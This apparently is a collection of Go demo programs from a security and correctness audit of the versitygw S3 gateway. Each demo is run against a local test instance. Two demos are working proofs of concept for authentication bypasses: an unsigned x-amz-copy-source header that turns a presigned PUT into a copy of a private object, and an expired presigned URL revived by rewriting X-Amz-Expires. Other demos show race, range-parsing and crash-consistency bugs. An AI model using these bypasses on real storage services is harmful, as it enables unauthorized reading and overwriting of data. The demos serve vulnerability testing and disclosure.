	req, err := http.NewRequest(method, url, bytes.NewReader(body))
	check(err)
	req.Header.Set("X-Amz-Content-Sha256", sha256hex(body))
	check(v4.NewSigner().SignHTTP(context.Background(), creds, req, sha256hex(body), "s3", region, time.Now()))
	return send(req)
}

// presign returns an ordinary presigned url (aws sdk presigner, signed
// headers: host) issued at the given time and valid for expires seconds
func presign(method, url string, issued time.Time, expires int) string {
	req, err := http.NewRequest(method, url, nil)
	check(err)
	q := req.URL.Query()
	q.Set("X-Amz-Expires", fmt.Sprint(expires))
	req.URL.RawQuery = q.Encode()
	u, _, err := v4.NewSigner().PresignHTTP(context.Background(), creds, req, "UNSIGNED-PAYLOAD", "s3", region, issued)
	check(err)
	return u
}
