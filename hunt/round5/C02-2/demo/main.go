//go:build huntdemo

// Property C02: a request is only acted on as far as it carries a correct
// SigV4 proof. SigV4 for S3 requires every x-amz-* header of a request to be
// part of the signed headers (S3 answers 403 AccessDenied "There were headers
// present in the request which were not signed"); the gateway neither signs
// over nor refuses x-amz-* headers that are missing from SignedHeaders, it
// simply acts on them.
//
// Case A (presigned url, no secret, no interception needed): root hands a guest
// a presigned PUT url for the one key uploads/slot (and a presigned GET for the
// same key). The guest adds "x-amz-copy-source: private/secret": the upload
// turns into a CopyObject executed with root's rights and the guest reads an
// object of another bucket it was never given access to.
//
// Case B (header authentication): a correctly signed "PUT /uploads/file" with
// body "hello" is re-sent with the additional, unsigned header
// "x-amz-copy-source: private/secret": it is accepted and does something else
// than what was signed.
package main

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"os"
	"time"

	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
)

func main() {
	addr, base := startGateway()
	defer os.RemoveAll(base)
	ep := "http://" + addr

	for _, b := range []string{"/private", "/uploads"} {
		if st, out := signed("PUT", ep+b, nil); st != 200 {
			fmt.Println("setup: create bucket:", st, out)
			os.Exit(2)
		}
	}
	if st, out := signed("PUT", ep+"/private/secret", []byte("content-of-private/secret")); st != 200 {
		fmt.Println("setup: put object:", st, out)
		os.Exit(2)
	}

	// ---- case A: presigned urls handed to a guest
	putURL := presign("PUT", ep+"/uploads/slot", time.Now(), 300)
	getURL := presign("GET", ep+"/uploads/slot", time.Now(), 300)

	req, _ := http.NewRequest("PUT", putURL, bytes.NewReader([]byte("guest upload")))
	st, _ := send(req)
	req, _ = http.NewRequest("GET", getURL, nil)
	_, out := send(req)
	fmt.Printf("A control: presigned PUT as intended:            %d, slot = %q\n", st, out)

	req, _ = http.NewRequest("PUT", putURL, nil)
	req.Header.Set("x-amz-copy-source", "private/secret") // not in X-Amz-SignedHeaders (host)
	stA, outA := send(req)
	req, _ = http.NewRequest("GET", getURL, nil)
	_, slot := send(req)
	fmt.Printf("A attack:  presigned PUT + unsigned copy-source:  %d %.40q..., slot = %q\n", stA, outA, slot)

	// ---- case B: header authentication, unsigned header added to a signed request
	body := []byte("hello")
	req, _ = http.NewRequest("PUT", ep+"/uploads/file", bytes.NewReader(body))
	req.Header.Set("X-Amz-Content-Sha256", sha256hex(body))
	check(v4.NewSigner().SignHTTP(context.Background(), creds, req, sha256hex(body), "s3", region, time.Now()))
	signedHeaders := req.Header.Get("Authorization")
	req.Header.Set("x-amz-copy-source", "private/secret") // added after signing
	stB, _ := send(req)
	_, file := signed("GET", ep+"/uploads/file", nil)
	fmt.Printf("B attack:  signed PUT (body \"hello\") + unsigned copy-source: %d, file = %q\n", stB, file)
	fmt.Printf("           (%s)\n", signedHeaders[len("AWS4-HMAC-SHA256 Credential=")+len(rootAccess)+1:])

	if slot == "content-of-private/secret" || file == "content-of-private/secret" {
		fmt.Println("VIOLATION C02: x-amz-* headers that are not covered by the signature are acted on: a presigned PUT url for uploads/slot (and a signed PUT of \"hello\") became a CopyObject of private/secret")
		os.RemoveAll(base)
		os.Exit(1)
	}
	fmt.Println("property holds: requests with unsigned x-amz-* headers are refused")
}
