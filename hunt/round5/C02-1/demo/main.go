//go:build huntdemo

// Property C02: a request with an expired (or modified) presigned URL is
// answered 4xx, changes nothing and returns no stored data.
//
// The demo issues an ordinary presigned URL (aws sdk presigner) that expired
// long ago, shows that the gateway refuses it, and then replays it with
//   - the X-Amz-Expires query value raised to 604800,
//   - the original value moved into an "X-Amz-Expires" request header that is
//     named in X-Amz-SignedHeaders.
//
// The signature is untouched (the sender does not know the secret key).
package main

import (
	"bytes"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

func revive(presigned string) (string, string) {
	u, err := url.Parse(presigned)
	check(err)
	q := u.Query()
	orig := q.Get("X-Amz-Expires")
	q.Set("X-Amz-Expires", "604800")
	q.Set("X-Amz-SignedHeaders", q.Get("X-Amz-SignedHeaders")+";x-amz-expires")
	u.RawQuery = q.Encode()
	return u.String(), orig
}

func main() {
	addr, base := startGateway()
	defer os.RemoveAll(base)
	ep := "http://" + addr

	if st, out := signed("PUT", ep+"/bkt", nil); st != 200 {
		fmt.Println("setup: create bucket:", st, out)
		os.Exit(2)
	}
	if st, out := signed("PUT", ep+"/bkt/report.txt", []byte("stored-secret-data")); st != 200 {
		fmt.Println("setup: put object:", st, out)
		os.Exit(2)
	}

	issued := time.Now().Add(-6 * time.Hour) // url issued six hours ago ...
	getURL := presign("GET", ep+"/bkt/report.txt", issued, 60)
	putURL := presign("PUT", ep+"/bkt/report.txt", issued, 60) // ... valid for one minute

	// control: the expired urls are refused
	req, _ := http.NewRequest("GET", getURL, nil)
	st, out := send(req)
	fmt.Printf("expired presigned GET, as issued:        %d %s\n", st, code(out))
	if st/100 != 4 {
		fmt.Println("unexpected: the expired url was not refused in the first place")
		os.Exit(2)
	}

	// attack 1: read with the expired url
	u, orig := revive(getURL)
	req, _ = http.NewRequest("GET", u, nil)
	req.Header.Set("X-Amz-Expires", orig)
	stGet, outGet := send(req)
	fmt.Printf("expired presigned GET, expires re-spelled: %d %q\n", stGet, short(outGet))

	// attack 2: overwrite with the expired url
	u, orig = revive(putURL)
	req, _ = http.NewRequest("PUT", u, bytes.NewReader([]byte("overwritten-by-expired-url")))
	req.Header.Set("X-Amz-Expires", orig)
	stPut, outPut := send(req)
	fmt.Printf("expired presigned PUT, expires re-spelled: %d %q\n", stPut, short(outPut))

	_, now := signed("GET", ep+"/bkt/report.txt", nil)
	fmt.Printf("object content afterwards:               %q\n", now)

	if stGet == 200 && outGet == "stored-secret-data" || now != "stored-secret-data" {
		fmt.Println("VIOLATION C02: a presigned url that expired 6 hours ago is accepted again once its X-Amz-Expires value is moved into a signed-headers request header and the query value is raised: stored data returned / object overwritten")
		os.RemoveAll(base)
		os.Exit(1)
	}
	fmt.Println("property holds: the expired presigned url stays refused")
}

func code(body string) string {
	i := strings.Index(body, "<Code>")
	j := strings.Index(body, "</Message>")
	if i < 0 || j < 0 {
		return short(body)
	}
	return strings.NewReplacer("<Code>", "", "</Code><Message>", ": ").Replace(body[i:j])
}

func short(s string) string {
	if len(s) > 120 {
		return s[:120] + "..."
	}
	return s
}
