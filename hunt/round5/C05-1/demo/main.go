//go:build huntdemo

// Two overlapping PutObject requests on one key of a versioning-Enabled
// bucket: both are acknowledged with their own version id, but the version
// written by the first one is not kept anywhere.
//
// The real posix backend is driven directly. The only instrumentation is a
// wrapper around the xattr metadata store that parks a request at
// meta.DeleteAttributes(bucket, key) - the call PutObject makes right after
// createObjVersion() and before the attributes are stored and the temp file
// is published - so that the schedule is deterministic.
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3err"
	"github.com/versity/versitygw/s3response"
)

const bucket = "bkt"

// the key the current scenario works on
var key = "k"

// gatedMeta is meta.XattrMeta plus two yield points:
//   - meta.DeleteAttributes(bucket, key): PutObject calls it right after
//     createObjVersion() has preserved the current version
//   - meta.StoreAttribute(nil, bucket, key, "delete-marker"): DeleteObject
//     calls it right after createObjVersion() has preserved the current version
type gatedMeta struct {
	meta.XattrMeta
	mu      sync.Mutex
	on      string // "put", "delete" or ""
	arrived chan chan struct{}
}

func (g *gatedMeta) park(which string) {
	g.mu.Lock()
	on := g.on
	g.mu.Unlock()
	if on == which {
		resume := make(chan struct{})
		g.arrived <- resume
		<-resume
	}
}

func (g *gatedMeta) DeleteAttributes(bkt, obj string) error {
	if bkt == bucket && obj == key {
		g.park("put")
	}
	return g.XattrMeta.DeleteAttributes(bkt, obj)
}

func (g *gatedMeta) StoreAttribute(f *os.File, bkt, obj, attr string, val []byte) error {
	if f == nil && bkt == bucket && obj == key && attr == "delete-marker" {
		g.park("delete")
	}
	return g.XattrMeta.StoreAttribute(f, bkt, obj, attr, val)
}

func (g *gatedMeta) set(on string) {
	g.mu.Lock()
	g.on = on
	g.mu.Unlock()
}

func ptr[T any](v T) *T { return &v }

// errStr renders an error on one line
func errStr(err error) string {
	if err == nil {
		return "<nil>"
	}
	var ae s3err.APIError
	if errors.As(err, &ae) {
		return fmt.Sprintf("%d %s (%s)", ae.HTTPStatusCode, ae.Code, ae.Description)
	}
	return err.Error()
}

func fatal(format string, a ...any) {
	fmt.Printf("SETUP PROBLEM: "+format+"\n", a...)
	os.Exit(2)
}

type putRes struct {
	out s3response.PutObjectOutput
	err error
}

func put(be *posix.Posix, body string) putRes {
	out, err := be.PutObject(context.Background(), s3response.PutObjectInput{
		Bucket:        ptr(bucket),
		Key:           ptr(key),
		ContentLength: ptr(int64(len(body))),
		Body:          strings.NewReader(body),
	})
	return putRes{out, err}
}

func get(be *posix.Posix, versionId string) (string, string, error) {
	in := &s3.GetObjectInput{Bucket: ptr(bucket), Key: ptr(key), Range: ptr("")}
	if versionId != "" {
		in.VersionId = &versionId
	}
	out, err := be.GetObject(context.Background(), in)
	if err != nil {
		return "", "", err
	}
	defer out.Body.Close()
	b, err := io.ReadAll(out.Body)
	if err != nil {
		return "", "", err
	}
	return string(b), *out.VersionId, nil
}

func waitArrival(g *gatedMeta, who string) chan struct{} {
	select {
	case r := <-g.arrived:
		return r
	case <-time.After(10 * time.Second):
		fatal("%s never reached the yield point", who)
	}
	return nil
}

func main() {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c05-1-")
	if err != nil {
		fatal("mkdir: %v", err)
	}
	defer os.RemoveAll(base)
	root := base + "/root"
	vdir := base + "/versions"
	os.Mkdir(root, 0755)
	os.Mkdir(vdir, 0755)

	g := &gatedMeta{arrived: make(chan chan struct{}, 4)}
	be, err := posix.New(root, g, posix.PosixOpts{NewDirPerm: 0755, VersioningDir: vdir})
	if err != nil {
		fatal("posix.New: %v", err)
	}
	ctx := context.Background()
	if err := be.CreateBucket(ctx, &s3.CreateBucketInput{Bucket: ptr(bucket)}, []byte("{}")); err != nil {
		fatal("create bucket: %v", err)
	}
	if err := be.PutBucketVersioning(ctx, bucket, types.BucketVersioningStatusEnabled); err != nil {
		fatal("enable versioning: %v", err)
	}

	// history: one acknowledged write, then two overlapping overwrites
	r0 := put(be, "body-0")
	if r0.err != nil {
		fatal("put 0: %v", r0.err)
	}
	fmt.Printf("PUT 0 acknowledged: VersionId %s\n", r0.out.VersionID)

	g.set("put")
	doneA, doneB := make(chan putRes, 1), make(chan putRes, 1)

	go func() { doneA <- put(be, "body-A") }()
	resumeA := waitArrival(g, "PUT A") // A has preserved the current version (0)
	go func() { doneB <- put(be, "body-B") }()
	resumeB := waitArrival(g, "PUT B") // B has preserved the current version (still 0)

	close(resumeA) // A publishes
	rA := <-doneA
	close(resumeB) // B publishes over A
	rB := <-doneB
	g.set("")

	if rA.err != nil || rB.err != nil {
		fatal("puts failed: A=%v B=%v", rA.err, rB.err)
	}
	fmt.Printf("PUT A acknowledged: VersionId %s\n", rA.out.VersionID)
	fmt.Printf("PUT B acknowledged: VersionId %s\n", rB.out.VersionID)

	// all requests have returned; read everything back sequentially
	cur, curV, err := get(be, "")
	fmt.Printf("GET k                 -> %q (version %s) err=%s\n", cur, curV, errStr(err))
	for _, v := range []struct{ name, id, want string }{
		{"0", r0.out.VersionID, "body-0"},
		{"A", rA.out.VersionID, "body-A"},
		{"B", rB.out.VersionID, "body-B"},
	} {
		b, _, err := get(be, v.id)
		fmt.Printf("GET k?versionId=<%s>   -> %q err=%s (want %q)\n", v.name, b, errStr(err), v.want)
	}

	lv, err := be.ListObjectVersions(ctx, &s3.ListObjectVersionsInput{Bucket: ptr(bucket), MaxKeys: ptr(int32(1000))})
	if err != nil {
		fatal("list versions: %v", err)
	}
	var ids []string
	for _, v := range lv.Versions {
		ids = append(ids, *v.VersionId)
	}
	fmt.Printf("ListObjectVersions    -> %d versions %v\n", len(ids), ids)

	var problems []string
	bodyA, _, errA := get(be, rA.out.VersionID)
	if errA != nil || bodyA != "body-A" {
		problems = append(problems, fmt.Sprintf("PUT A on k was acknowledged with VersionId %s, but after both overlapping PUTs returned that version is gone (GET by version id: %s; the listing has %d of 3 versions)",
			rA.out.VersionID, errStr(errA), len(ids)))
	}

	// second schedule, on key k2: DELETE k2 (no version id) overlapping one PUT
	fmt.Println("--")
	key = "k2"
	r0 = put(be, "body-0")
	if r0.err != nil {
		fatal("put 0 on k2: %v", r0.err)
	}
	fmt.Printf("PUT 0 on k2 acknowledged: VersionId %s\n", r0.out.VersionID)
	g.set("delete")
	type delRes struct {
		out *s3.DeleteObjectOutput
		err error
	}
	doneD := make(chan delRes, 1)
	go func() {
		o, err := be.DeleteObject(ctx, &s3.DeleteObjectInput{Bucket: ptr(bucket), Key: ptr(key)})
		doneD <- delRes{o, err}
	}()
	resumeD := waitArrival(g, "DELETE") // DELETE has preserved the current version (0)
	rP := put(be, "body-P")             // a complete PUT in between
	if rP.err != nil {
		fatal("put P on k2: %v", rP.err)
	}
	fmt.Printf("PUT P on k2 acknowledged: VersionId %s\n", rP.out.VersionID)
	close(resumeD)
	rD := <-doneD
	g.set("")
	if rD.err != nil {
		fatal("delete k2: %v", rD.err)
	}
	fmt.Printf("DELETE k2 acknowledged: delete marker %s\n", *rD.out.VersionId)
	cur, _, err = get(be, "")
	fmt.Printf("GET k2                -> %q err=%s\n", cur, errStr(err))
	bodyP, _, errP := get(be, rP.out.VersionID)
	fmt.Printf("GET k2?versionId=<P>  -> %q err=%s (want %q)\n", bodyP, errStr(errP), "body-P")
	if err == nil && cur != "body-P" {
		problems = append(problems, fmt.Sprintf("GET k2 returns %q", cur))
	}
	if err != nil && (errP != nil || bodyP != "body-P") {
		problems = append(problems, fmt.Sprintf("PUT P on k2 was acknowledged with VersionId %s while a DELETE was in flight; afterwards GET k2 answers %s (so the delete is ordered after the PUT) but the version the PUT wrote is gone too (GET by version id: %s)",
			rP.out.VersionID, errStr(err), errStr(errP)))
	}

	if len(problems) > 0 {
		fmt.Printf("VIOLATION: an acknowledged write is lost in a versioning-Enabled bucket, no sequential order of the overlapping requests explains it: %s\n", strings.Join(problems, "; "))
		os.RemoveAll(base)
		os.Exit(1)
	}
	fmt.Println("OK: every acknowledged version is still retrievable")
}
