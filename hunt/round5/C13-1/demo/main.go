//go:build huntdemo

// C13 hunt 1: a malformed Range header whose first number is not below the
// object length is answered 416 InvalidRange instead of 200 with the whole
// object. The very same header is (correctly) ignored when the object is
// longer, so the verdict on a malformed header depends on the object size.
package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
	"github.com/versity/versitygw/s3err"
)

const (
	ak = "AKIDROOT"
	sk = "SECRETROOT"
)

var base string

func do(method, path string, hdr map[string]string, body []byte) (int, http.Header, []byte) {
	req, err := http.NewRequest(method, base+path, bytes.NewReader(body))
	if err != nil {
		fatal(err)
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	sum := sha256.Sum256(body)
	hs := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hs)
	err = v4.NewSigner().SignHTTP(context.Background(),
		aws.Credentials{AccessKeyID: ak, SecretAccessKey: sk}, req, hs, "s3", "us-east-1", time.Now())
	if err != nil {
		fatal(err)
	}
	tr := &http.Transport{DisableCompression: true, DisableKeepAlives: true}
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err != nil {
		fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		fatal(err)
	}
	return resp.StatusCode, resp.Header, b
}

func fatal(err error) {
	fmt.Println("SETUP ERROR:", err)
	os.Exit(2)
}

func main() {
	os.Exit(run())
}

func run() int {
	dir, err := os.MkdirTemp("/dev/shm", "c13hunt1-")
	if err != nil {
		fatal(err)
	}
	defer os.RemoveAll(dir)

	be, err := posix.New(dir, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0755})
	if err != nil {
		fatal(err)
	}
	app := fiber.New(fiber.Config{StreamRequestBody: true, DisableStartupMessage: true, DisableKeepalive: true})
	root := middlewares.RootUserConfig{Access: ak, Secret: sk}
	iam := auth.NewIAMServiceSingle(auth.Account{Access: ak, Secret: sk, Role: auth.RoleAdmin})
	if _, err = s3api.New(app, be, root, ":0", "us-east-1", iam, nil, nil, nil, nil, s3api.WithQuiet()); err != nil {
		fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fatal(err)
	}
	go app.Listener(ln)
	defer app.Shutdown()
	base = "http://" + ln.Addr().String()

	if st, _, b := do("PUT", "/bkt", nil, nil); st != 200 {
		fatal(fmt.Errorf("create bucket: %d %s", st, b))
	}
	objs := map[string][]byte{
		"long":  []byte("0123456789"),
		"short": []byte("abc"),
		"empty": {},
	}
	for k, v := range objs {
		if st, _, b := do("PUT", "/bkt/"+k, nil, v); st != 200 {
			fatal(fmt.Errorf("put %s: %d %s", k, st, b))
		}
	}

	// every one of these headers is malformed (not "bytes=" 1*DIGIT "-" [1*DIGIT]):
	// the property demands 200 with the entire object, whatever the object size
	cases := []struct{ key, rng string }{
		{"long", "bytes=7-abc"}, // control: first number inside the object
		{"short", "bytes=7-abc"},
		{"short", "bytes=3-0x10"},
		{"short", "bytes=7-8;"},
		{"empty", "bytes=0-abc"},
		{"empty", "bytes=0-1.5"},
	}
	var bad []string
	for _, c := range cases {
		want := objs[c.key]
		st, h, body := do("GET", "/bkt/"+c.key, map[string]string{"Range": c.rng}, nil)
		ok := st == 200 && bytes.Equal(body, want) && h.Get("Content-Range") == ""
		fmt.Printf("GET %-5s (len %2d) Range %-16q -> %d Content-Range=%q Content-Length=%s body=%.40q  %s\n",
			c.key, len(want), c.rng, st, h.Get("Content-Range"), h.Get("Content-Length"), body, verdict(ok))
		if !ok {
			bad = append(bad, fmt.Sprintf("%s/%q->%d", c.key, c.rng, st))
		}
	}

	// the same through the package API
	for _, c := range []struct {
		size int64
		rng  string
	}{{10, "bytes=7-abc"}, {3, "bytes=7-abc"}, {0, "bytes=0-abc"}} {
		start, length, valid, err := backend.ParseGetObjectRange(c.size, c.rng)
		ok := err == nil && !valid && start == 0 && length == c.size
		fmt.Printf("ParseGetObjectRange(%d, %q) = start %d, length %d, valid %v, err %s  %s\n",
			c.size, c.rng, start, length, valid, errCode(err), verdict(ok))
		if !ok {
			bad = append(bad, fmt.Sprintf("ParseGetObjectRange(%d,%q)->%s", c.size, c.rng, errCode(err)))
		}
	}

	if len(bad) > 0 {
		fmt.Printf("VIOLATION C13: malformed Range headers must be ignored (200 + entire object) but are answered 416 InvalidRange when their first number is >= the object length: %v\n", bad)
		return 1
	}
	fmt.Println("OK: malformed Range headers are ignored independently of the object length")
	return 0
}

func errCode(err error) string {
	if err == nil {
		return "<nil>"
	}
	var ae s3err.APIError
	if errors.As(err, &ae) {
		return fmt.Sprintf("%s(%d)", ae.Code, ae.HTTPStatusCode)
	}
	return err.Error()
}

func verdict(ok bool) string {
	if ok {
		return "ok"
	}
	return "WRONG"
}
