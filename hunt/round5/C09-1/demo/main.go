//go:build huntdemo

// C09 finding 1: paged ListObjectVersions silently omits existing versions
// when the version named by version-id-marker has been deleted since the
// previous page was returned.
//
// The markers are treated as "the entry to find" instead of "the position to
// continue from": fileToObjVersions skips the versions of the marker key until
// it meets a version whose id EQUALS version-id-marker. If that version does
// not exist any more, no version of the key is listed at all and the walk
// continues with the next key; the listing then ends with IsTruncated=false.
//
// Part A is the minimal program (list a page, delete the listed versions by
// id, list the next page). Part B is what every "empty this versioned
// bucket" tool does (list a page, DeleteObjects it, continue from the
// markers): the loop finishes, versions are left, DeleteBucket is refused.
package main

import (
	"fmt"
	"os"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
)

func main() {
	g := startGW(gwOpts{})
	var bad []string

	// ---------------------------------------------------------------- A
	b := "bkt-a"
	g.mkBucket(b)
	g.setVersioning(b, types.BucketVersioningStatusEnabled)
	var ids []string
	for i := 1; i <= 5; i++ {
		ids = append(ids, g.put(b, "doc", fmt.Sprintf("doc-v%d", i)))
	}
	max := int32(2)
	p1, err := g.cl.ListObjectVersions(bg, &s3.ListObjectVersionsInput{Bucket: &b, MaxKeys: &max})
	must(err)
	fmt.Printf("A: 5 versions of one key, max-keys=2\n   page 1: %s truncated=%v next-key-marker=%q next-version-id-marker=%q\n",
		names(p1), aws.ToBool(p1.IsTruncated), aws.ToString(p1.NextKeyMarker), aws.ToString(p1.NextVersionIdMarker))
	for _, v := range p1.Versions { // v5 (current), v4
		_, err := g.del(b, "doc", aws.ToString(v.VersionId))
		must(err)
	}
	fmt.Println("   deleted by id what page 1 listed (v5, v4); v3, v2, v1 are untouched")
	p2, err := g.cl.ListObjectVersions(bg, &s3.ListObjectVersionsInput{Bucket: &b, MaxKeys: &max,
		KeyMarker: p1.NextKeyMarker, VersionIdMarker: p1.NextVersionIdMarker})
	must(err)
	fmt.Printf("   page 2: %s truncated=%v\n", names(p2), aws.ToBool(p2.IsTruncated))
	// v3, v2, v1 existed before, during and after the listing; the listing
	// has ended (not truncated) or must go on and deliver them
	seen := map[string]bool{}
	km, vm, trunc := p2.NextKeyMarker, p2.NextVersionIdMarker, aws.ToBool(p2.IsTruncated)
	for _, v := range p2.Versions {
		seen[aws.ToString(v.VersionId)] = true
	}
	for i := 0; trunc && i < 10; i++ {
		p, err := g.cl.ListObjectVersions(bg, &s3.ListObjectVersionsInput{Bucket: &b, MaxKeys: &max, KeyMarker: km, VersionIdMarker: vm})
		must(err)
		for _, v := range p.Versions {
			seen[aws.ToString(v.VersionId)] = true
		}
		km, vm, trunc = p.NextKeyMarker, p.NextVersionIdMarker, aws.ToBool(p.IsTruncated)
	}
	for i, id := range ids[:3] {
		if !seen[id] {
			bad = append(bad, fmt.Sprintf("A: existing version v%d (%s) of 'doc' never listed", i+1, id))
		}
		body, _, err := g.get(b, "doc", id)
		if err != nil || body != fmt.Sprintf("doc-v%d", i+1) {
			must(fmt.Errorf("version v%d unexpectedly not readable: %v", i+1, err))
		}
	}

	// ---------------------------------------------------------------- B
	b = "bkt-b"
	g.mkBucket(b)
	g.setVersioning(b, types.BucketVersioningStatusEnabled)
	for i := 1; i <= 5; i++ {
		g.put(b, "a", fmt.Sprintf("a-v%d", i))
	}
	for i := 1; i <= 3; i++ {
		g.put(b, "b", fmt.Sprintf("b-v%d", i))
	}
	fmt.Println("B: empty a bucket (a: 5 versions, b: 3 versions): list a page, DeleteObjects it, continue from the markers")
	km, vm = nil, nil
	for page := 1; page < 100; page++ {
		out, err := g.cl.ListObjectVersions(bg, &s3.ListObjectVersionsInput{Bucket: &b, MaxKeys: &max, KeyMarker: km, VersionIdMarker: vm})
		must(err)
		var objs []types.ObjectIdentifier
		for _, v := range out.Versions {
			objs = append(objs, types.ObjectIdentifier{Key: v.Key, VersionId: v.VersionId})
		}
		for _, v := range out.DeleteMarkers {
			objs = append(objs, types.ObjectIdentifier{Key: v.Key, VersionId: v.VersionId})
		}
		fmt.Printf("   page %d: %d entries, truncated=%v\n", page, len(objs), aws.ToBool(out.IsTruncated))
		if len(objs) > 0 {
			res, err := g.cl.DeleteObjects(bg, &s3.DeleteObjectsInput{Bucket: &b, Delete: &types.Delete{Objects: objs}})
			must(err)
			if len(res.Errors) > 0 {
				must(fmt.Errorf("DeleteObjects: %v", aws.ToString(res.Errors[0].Message)))
			}
		}
		if !aws.ToBool(out.IsTruncated) {
			break
		}
		km, vm = out.NextKeyMarker, out.NextVersionIdMarker
	}
	left, err := g.listAll(b, 0)
	must(err)
	_, err = g.cl.DeleteBucket(bg, &s3.DeleteBucketInput{Bucket: &b})
	fmt.Printf("   listing completed; versions still in the bucket: %v; DeleteBucket: %q\n", left, apiCode(err))
	if len(left) > 0 {
		bad = append(bad, fmt.Sprintf("B: the completed paged listing never reported %d existing versions %v (DeleteBucket: %s)", len(left), left, apiCode(err)))
	}

	g.stop()
	if len(bad) > 0 {
		fmt.Printf("VIOLATION C09: paged ListObjectVersions omits existing versions after the marker version was deleted: %v\n", bad)
		os.Exit(1)
	}
	fmt.Println("OK: every existing version was listed")
}

func names(o *s3.ListObjectVersionsOutput) string {
	s := "["
	for i, v := range o.Versions {
		if i > 0 {
			s += " "
		}
		s += aws.ToString(v.Key) + ":" + aws.ToString(v.VersionId)
	}
	return s + "]"
}
