//go:build huntdemo

// C11 finding 1: CopyObject of an object onto itself with
// x-amz-metadata-directive: REPLACE rewrites the attributes of the published
// object in place, one call after the other. A gateway killed in the middle
// leaves the key with metadata that is neither the previous nor the new one.
//
// Configuration: default (xattr metadata store, O_TMPFILE), no versioning.
package main

import (
	"bytes"
	"fmt"
	"os"
	"sort"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
)

const (
	bucket = "c11-bucket"
	key    = "report.txt"
)

var (
	oldMeta = map[string]string{"owner": "alice", "class": "public"}
	oldType = "text/plain"
	newMeta = map[string]string{"owner": "bob", "class": "secret"}
	newType = "application/json"
)

func show(m map[string]string, ct string) string {
	var kv []string
	for k, v := range m {
		kv = append(kv, strings.ToLower(k)+"="+v)
	}
	sort.Strings(kv)
	return fmt.Sprintf("{%s} content-type=%s", strings.Join(kv, ","), ct)
}

func crashPhase() {
	root := os.Getenv("HUNT_ROOT")
	gw, err := startGateway(root, "", false)
	must(err, "start gateway")

	_, err = gw.cli.CreateBucket(ctxT(), &s3.CreateBucketInput{Bucket: aws.String(bucket)})
	must(err, "CreateBucket")
	_, err = gw.cli.PutObject(ctxT(), &s3.PutObjectInput{
		Bucket: aws.String(bucket), Key: aws.String(key),
		Body:        bytes.NewReader([]byte("hello world")),
		Metadata:    oldMeta,
		ContentType: aws.String(oldType),
	})
	must(err, "PutObject")

	// crash point: the old user metadata has been removed, the first new
	// user metadata attribute is about to be stored
	gw.meta.match = func(c call) bool {
		return c.op == "Store" && c.object == key && strings.HasPrefix(c.attr, "X-Amz-Meta.")
	}
	gw.meta.armed.Store(true)

	_, err = gw.cli.CopyObject(ctxT(), &s3.CopyObjectInput{
		Bucket: aws.String(bucket), Key: aws.String(key),
		CopySource:        aws.String(bucket + "/" + key),
		MetadataDirective: types.MetadataDirectiveReplace,
		Metadata:          newMeta,
		ContentType:       aws.String(newType),
	})
	must(err, "CopyObject (crash point not reached)")
	os.Exit(0)
}

func main() {
	if os.Getenv("HUNT_PHASE") == "crash" {
		crashPhase()
		return
	}

	base, root, _ := scratch("c11hunt1")
	defer os.RemoveAll(base)

	runCrashPhase("HUNT_ROOT=" + root)

	// restart
	gw, err := startGateway(root, "", false)
	must(err, "restart gateway")

	h, err := gw.cli.HeadObject(ctxT(), &s3.HeadObjectInput{Bucket: aws.String(bucket), Key: aws.String(key)})
	must(err, "HeadObject after restart")

	got := show(h.Metadata, aws.ToString(h.ContentType))
	prev := show(oldMeta, oldType)
	next := show(newMeta, newType)
	fmt.Printf("previous state : %s\n", prev)
	fmt.Printf("new state      : %s\n", next)
	fmt.Printf("after the crash: %s\n", got)

	if got == prev || got == next {
		fmt.Println("OK: the key holds its complete previous or complete new state")
		os.RemoveAll(base)
		os.Exit(0)
	}
	fmt.Printf("VIOLATION: gateway killed during CopyObject(%s onto itself, REPLACE): after restart HEAD shows %s, which is neither the previous (%s) nor the new (%s) metadata\n",
		key, got, prev, next)
	os.RemoveAll(base)
	os.Exit(1)
}
