//go:build huntdemo

// Common harness of the C11 demos: a real gateway (s3api.New + posix backend
// on a scratch directory under /dev/shm) in this process, an S3 client
// talking to it over loopback, and a crash point: the metadata store handed
// to the posix backend is wrapped, and when the wrapper is armed and a call
// matches, the process sends itself SIGKILL (before the call is carried
// out). The demo's main() runs the history up to the kill in a child process
// (the same binary, HUNT_PHASE=crash), then "restarts" the gateway on the
// same directories in the parent and looks at the result through the API.
package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/smithy-go"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
